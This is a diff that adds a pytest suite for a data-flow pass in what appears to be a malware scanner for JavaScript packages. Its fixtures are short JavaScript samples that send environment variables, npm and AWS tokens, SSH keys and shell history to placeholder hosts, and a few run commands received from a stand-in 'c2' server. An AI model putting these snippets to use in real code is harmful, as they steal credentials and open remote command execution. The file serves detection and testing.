@@ -1,0 +1,379 @@
+# ruff: noqa: E501 — JavaScript fixtures read best one statement a line
+"""The per-file data-flow pass: each propagation step, sanitiser and sink kind, positive and negative."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.analysis.capabilities import analyze_source
+from airlock.analysis.dataflow import FileFlows, Kind
+from airlock.analysis.js import Dialect
+
+
+def flows_of(code: str, path: str = "index.js") -> FileFlows:
+    return analyze_source(path, code.encode(), Dialect.JAVASCRIPT).flows
+
+
+def kinds(code: str) -> set[Kind]:
+    return {f.source.kind for f in flows_of(code).flows}
+
+
+HTTPS = "const https = require('https');\n"
+
+# (id, code, expected source kind) — each reaches a sink through one propagation step.
+POSITIVE = [
+    (
+        "stringify-env",
+        HTTPS + "https.get('https://a.example.com/?' + JSON.stringify(process.env));",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "spread-env",
+        HTTPS + "const e = {...process.env};\nhttps.request({host: 'a.example.com'}).end(JSON.stringify(e));",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "assign-env",
+        HTTPS
+        + "const e = Object.assign({}, process.env);\nhttps.get({host: 'a.example.com', headers: {x: e}});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "entries-env",
+        "fetch('https://a.example.com', {method: 'POST', body: Object.entries(process.env).join()});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "env-as-value",
+        "fetch('https://a.example.com', {method: 'POST', body: JSON.stringify({e: process.env})});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "buffer-module-from",
+        "const buffer = require('buffer');\nconst send = (s) => fetch('https://a.example.com', {headers: {x: s}});\nfunction k(pair) { send(buffer.Buffer.from(pair.secretKey).toString('hex')); }",
+        Kind.KEY_MATERIAL,
+    ),
+    (
+        "for-in-env",
+        "const o = {};\nfor (const k in process.env) o[k] = process.env[k];\nfetch('https://a.example.com', {body: JSON.stringify(o)});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "keys-foreach-env",
+        "const o = [];\nObject.keys(process.env).forEach(k => o.push(process.env[k]));\nfetch('https://a.example.com', {body: o.join()});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "secret-env",
+        HTTPS + "https.get('https://a.example.com/?t=' + process.env.NPM_TOKEN);",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "template",
+        HTTPS + "const t = process.env.NPM_TOKEN;\nhttps.get(`https://a.example.com/?t=${t}`);",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "buffer-hex",
+        HTTPS
+        + "const k = Buffer.from(process.env.NPM_TOKEN).toString('hex');\nhttps.get('https://a.example.com/' + k);",
+        Kind.SECRET_ENV,
+    ),
+    ("base64", "fetch('https://a.example.com/' + btoa(process.env.NPM_TOKEN));", Kind.SECRET_ENV),
+    (
+        "reassigned",
+        "let s = '';\ns = process.env.NPM_TOKEN;\nfetch('https://a.example.com/' + s);",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "push",
+        "const a = [];\na.push(process.env.NPM_TOKEN);\nfetch('https://a.example.com/', {body: a.join(',')});",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "member-assign",
+        "const o = {};\no.t = process.env.NPM_TOKEN;\nfetch('https://a.example.com/', {body: JSON.stringify(o)});",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "destructure",
+        "const { t } = { t: process.env.NPM_TOKEN };\nfetch('https://a.example.com/' + t);",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "helper-param",
+        "function send(d) { fetch('https://a.example.com/', {body: d}); }\nsend(process.env.NPM_TOKEN);",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "helper-return",
+        "function get() { return process.env.NPM_TOKEN; }\nfetch('https://a.example.com/' + get());",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "class-field",
+        "class A { constructor() { this.k = process.env.NPM_TOKEN; } go() { fetch('https://a.example.com/' + this.k); } }\nnew A().go();",
+        Kind.SECRET_ENV,
+    ),
+    (
+        "cipher",
+        "const c = require('crypto');\nconst x = c.createCipheriv('aes-256-cbc', k, iv);\nconst out = x.update(JSON.stringify(process.env), 'utf8', 'hex') + x.final('hex');\nfetch('https://a.example.com/', {body: out});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "gzip",
+        "const z = require('zlib');\nfetch('https://a.example.com/', {body: z.gzipSync(JSON.stringify(process.env))});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "ssh-path-join",
+        "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('https://a.example.com/', {body: k});",
+        Kind.SECRET_FILE,
+    ),
+    (
+        "read-callback",
+        "const fs = require('fs');\nfs.readFile(require('os').homedir() + '/.ssh/id_rsa', (err, data) => { fetch('https://a.example.com/', {body: data}); });",
+        Kind.SECRET_FILE,
+    ),
+    (
+        "history",
+        "const fs = require('fs');\nfetch('https://a.example.com/', {body: fs.readFileSync('/root/.bash_history')});",
+        Kind.HISTORY,
+    ),
+    (
+        "key-material",
+        "function f(wallet) { fetch('https://a.example.com/', {body: wallet.privateKey}); }\nmodule.exports = f;",
+        Kind.KEY_MATERIAL,
+    ),
+    (
+        "ids-identity",
+        HTTPS + "const os = require('os');\nhttps.get('https://a.example.com/' + os.hostname());",
+        Kind.IDENTITY,
+    ),
+]
+
+
+@pytest.mark.parametrize(("code", "kind"), [(c, k) for _, c, k in POSITIVE], ids=[i for i, _, _ in POSITIVE])
+def test_label_reaches_sink(code: str, kind: Kind) -> None:
+    assert kind in kinds(code)
+
+
+NEGATIVE = [
+    (
+        "unknown-call",
+        "const cfg = loadConfig(process.env);\nfetch('https://a.example.com/', {body: JSON.stringify(cfg)});",
+    ),
+    (
+        "hash",
+        "const c = require('crypto');\nfetch('https://a.example.com/' + c.createHash('sha256').update(process.env.NPM_TOKEN).digest('hex'));",
+    ),
+    (
+        "hmac",
+        "const c = require('crypto');\nconst s = c.createHmac('sha256', process.env.AWS_SECRET_ACCESS_KEY).update('x').digest('hex');\nfetch('https://a.example.com/', {headers: {s}});",
+    ),
+    ("plain-env-name", "fetch('https://a.example.com/' + process.env.NODE_ENV);"),
+    ("no-sink", "const fs = require('fs');\nfs.writeFileSync('out', JSON.stringify(process.env));"),
+    (
+        "tls-key-option",
+        HTTPS
+        + "const fs = require('fs');\nconst privateKey = fs.readFileSync('client.key');\nhttps.request({host: 'a.example.com', key: privateKey});",
+    ),
+    ("env-keys-only", "fetch('https://a.example.com/', {body: Object.keys(process.env).length + ''});"),
+    (
+        "sign",
+        "function f(w, m) { fetch('https://a.example.com/', {body: w.sign(m, w.privateKey)}); }\nmodule.exports = f;",
+    ),
+]
+
+
+@pytest.mark.parametrize("code", [c for _, c in NEGATIVE], ids=[i for i, _ in NEGATIVE])
+def test_no_flow(code: str) -> None:
+    assert not flows_of(code).flows
+
+
+SINKS = [
+    (
+        "http-request-write",
+        "const h = require('http');\nconst r = h.request('http://a.example.com');\nr.write(process.env.NPM_TOKEN);",
+    ),
+    (
+        "net-socket",
+        "const net = require('net');\nconst s = net.connect(80, 'a.example.com');\ns.write(JSON.stringify(process.env));",
+    ),
+    (
+        "dgram",
+        "const d = require('dgram');\nconst s = d.createSocket('udp4');\ns.send(JSON.stringify(process.env), 53, 'a.example.com');",
+    ),
+    (
+        "dns",
+        "const dns = require('dns');\ndns.lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.a.example.com', () => {});",
+    ),
+    (
+        "xhr",
+        "const x = new XMLHttpRequest();\nx.open('POST', 'https://a.example.com');\nx.send(JSON.stringify(process.env));",
+    ),
+    ("websocket", "const w = new WebSocket('wss://a.example.com');\nw.send(JSON.stringify(process.env));"),
+    ("beacon", "navigator.sendBeacon('https://a.example.com', JSON.stringify(process.env));"),
+    ("axios-post", "const axios = require('axios');\naxios.post('https://a.example.com', process.env);"),
+    (
+        "axios-instance",
+        "const axios = require('axios');\nconst api = axios.create({baseURL: 'https://a.example.com'});\napi.post('/x', {e: process.env});",
+    ),
+    ("got", "import got from 'got';\ngot.post('https://a.example.com', {json: process.env});"),
+    (
+        "superagent-chain",
+        "const sa = require('superagent');\nsa.post('https://a.example.com').send(JSON.stringify(process.env));",
+    ),
+    (
+        "ws-package",
+        "const WS = require('ws');\nconst w = new WS('wss://a.example.com');\nw.send(JSON.stringify(process.env));",
+    ),
+    (
+        "socket-io",
+        "const io = require('socket.io-client');\nconst s = io('https://a.example.com');\ns.emit('e', process.env);",
+    ),
+]
+
+
+@pytest.mark.parametrize("code", [c for _, c in SINKS], ids=[i for i, _ in SINKS])
+def test_sink_kinds(code: str) -> None:
+    assert flows_of(code).flows
+
+
+def test_destination_folds_constants() -> None:
+    code = (
+        HTTPS
+        + "const host = 'api.' + 'example.com';\nhttps.get({hostname: host, path: '/' + process.env.NPM_TOKEN});"
+    )
+    (flow,) = flows_of(code).flows
+    assert flow.sink.destination == "api.example.com"
+
+
+def test_configured_destination_is_none() -> None:
+    code = "fetch(process.env.URL, {headers: {a: process.env.ACME_TOKEN}});"
+    (flow,) = flows_of(code).flows
+    assert flow.sink.destination is None
+
+
+@pytest.mark.parametrize(
+    ("code", "load"),
+    [
+        ("fetch('https://a.example.com', {body: JSON.stringify(process.env)});", True),
+        ("(function () { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); })();", True),
+        (
+            "function go() { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); }\ngo();",
+            True,
+        ),
+        ("setTimeout(() => fetch('https://a.example.com', {body: JSON.stringify(process.env)}), 10);", True),
+        (
+            "function go() { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); }\nmodule.exports = go;",
+            False,
+        ),
+    ],
+    ids=["top-level", "iife", "called-from-top", "callback", "exported-only"],
+)
+def test_load_time(code: str, load: bool) -> None:
+    (flow,) = flows_of(code).flows
+    assert flow.sink.load_time is load
+
+
+def test_exported_parameter_sink_is_symbolic() -> None:
+    flows = flows_of("module.exports = function send(d) { fetch('https://a.example.com', {body: d}); };")
+    assert [(p.export, p.index) for p in flows.param_sinks] == [("default", 0)]
+
+
+def test_export_returns_source() -> None:
+    flows = flows_of("exports.collect = () => JSON.stringify(process.env);")
+    assert [(e.export, e.labels[0].kind) for e in flows.exports] == [("collect", Kind.ENV_DUMP)]
+
+
+def test_budget_overrun_is_recorded() -> None:
+    from airlock.analysis.capabilities import Budget
+
+    code = (
+        "function send(d) { fetch('https://a.example.com', {body: d}); }\n"
+        + "send(process.env.NPM_TOKEN);\n" * 50
+    )
+    result = analyze_source("x.js", code.encode(), Dialect.JAVASCRIPT, budget=Budget(max_flow_steps=20))
+    assert not result.flows.complete
+    assert any("data-flow" in s.reason for s in result.skipped)
+
+
+def test_destructured_request_is_a_sink() -> None:
+    code = "const { request } = require('node:http');\nconst r = request({hostname: 'a.example.com'});\nr.end(JSON.stringify(process.env));"
+    flows = flows_of(code)
+    assert flows.sinks >= 2
+    assert flows.flows
+
+
+def test_curl_command_is_a_sink() -> None:
+    code = (
+        "const { execSync } = require('child_process');\n"
+        "execSync('curl -s -d ' + JSON.stringify(process.env) + ' https://c.example.com/x');"
+    )
+    (flow,) = flows_of(code).flows
+    assert flow.sink.destination == "c.example.com"
+
+
+def test_command_without_network_tool_is_not_a_sink() -> None:
+    code = "const { execSync } = require('child_process');\nexecSync('echo ' + JSON.stringify(process.env));"
+    assert not flows_of(code).flows
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const net = require('net'); const { exec } = require('child_process');\n"
+        "const c = net.connect(4444, 'c2.example.com');\nc.on('data', (d) => exec(d.toString()));",
+        "const https = require('https'); const cp = require('child_process');\n"
+        "https.get('https://c2.example.com/t', (res) => res.on('data', (chunk) => cp.execSync(String(chunk))));",
+        "const WS = require('ws'); const cp = require('child_process');\n"
+        "const w = new WS('wss://c2.example.com');\nw.on('message', (m) => cp.spawn('sh', ['-c', m]));",
+    ],
+    ids=["net-socket", "https-response", "ws-message"],
+)
+def test_received_data_reaching_a_command(code: str) -> None:
+    flows = flows_of(code).flows
+    assert any(f.sink.executes and f.source.kind is Kind.REMOTE for f in flows)
+
+
+def test_command_from_configuration_is_not_remote() -> None:
+    code = (
+        "const { exec } = require('child_process');\nconst net = require('net');\n"
+        "module.exports = (cfg) => { net.connect(cfg.port); exec(cfg.command); };"
+    )
+    assert not [f for f in flows_of(code).flows if f.sink.executes]
+
+
+def test_sink_cap_is_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
+    import airlock.analysis.dataflow.file as file_pass
+
+    monkeypatch.setattr(file_pass, "MAX_SINKS", 2)
+    code = (
+        "fetch('https://a.example.com/1');\n" * 3
+        + "fetch('https://a.example.com/', {body: JSON.stringify(process.env)});"
+    )
+    result = analyze_source("x.js", code.encode(), Dialect.JAVASCRIPT)
+    assert not result.flows.complete
+    assert any("network sinks" in s.reason for s in result.skipped)
+
+
+def test_curl_options_env_is_not_sent() -> None:
+    code = (
+        "const { execSync } = require('child_process');\n"
+        "execSync('curl -sLo bin.tgz https://dl.example.com/bin.tgz', { env: { ...process.env, A: '1' } });"
+    )
+    assert not flows_of(code).flows
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const { request } = require('undici');\nrequest('https://a.example.com', {method: 'POST', body: JSON.stringify(process.env)});",
+        "import { fetch as f } from 'undici';\nf('https://a.example.com', {method: 'POST', body: JSON.stringify(process.env)});",
+        "import https from 'https';\nhttps.request({host: 'a.example.com'}).end(JSON.stringify(process.env));",
+    ],
+    ids=["undici-destructured", "undici-named-import", "esm-https"],
+)
+def test_client_bindings(code: str) -> None:
+    assert flows_of(code, "index.mjs").flows
